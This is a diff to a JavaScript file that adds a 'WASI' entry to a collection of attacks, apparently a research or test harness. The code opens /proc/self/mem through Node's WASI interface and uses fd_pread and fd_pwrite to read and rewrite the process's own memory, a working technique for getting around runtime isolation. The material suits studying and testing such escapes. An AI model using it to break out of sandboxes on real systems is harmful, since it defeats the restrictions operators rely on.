@@ -108,6 +108,33 @@ exports.attacks = {
       });
     },
   },
+  'WASI': {
+    run: (lab) => {
+      const memory = new WebAssembly.Memory({ initial: 1 });
+      const wasi = new (require('node:wasi').WASI)({ version: 'preview1', preopens: { '/': '/proc/self' } });
+      wasi.initialize({ exports: { memory } });
+      const bytes = Buffer.from(memory.buffer);
+      bytes.write('mem', 64);
+      const check = (name, code) => {
+        if (code) throw new Error(`${name} gave ${code}`);
+      };
+      check('path_open', wasi.wasiImport.path_open(3, 0, 64, 3, 0, 0x66n, 0n, 0, 128));
+      const fd = bytes.readUInt32LE(128);
+      const vector = (length) => (bytes.writeUInt32LE(16384, 256), bytes.writeUInt32LE(length, 260));
+      return rewrite(lab, {
+        read: (window, at) => {
+          vector(window.length);
+          check('fd_pread', wasi.wasiImport.fd_pread(fd, 256, 1, BigInt(at), 512));
+          bytes.copy(window, 0, 16384);
+        },
+        write: (data, at) => {
+          vector(data.length);
+          data.copy(bytes, 16384);
+          check('fd_pwrite', wasi.wasiImport.fd_pwrite(fd, 256, 1, BigInt(at), 512));
+        },
+      });
+    },
+  },
   'by io_uring': {
     run: async (lab) => {
       process.env.UV_USE_IO_URING = '1';
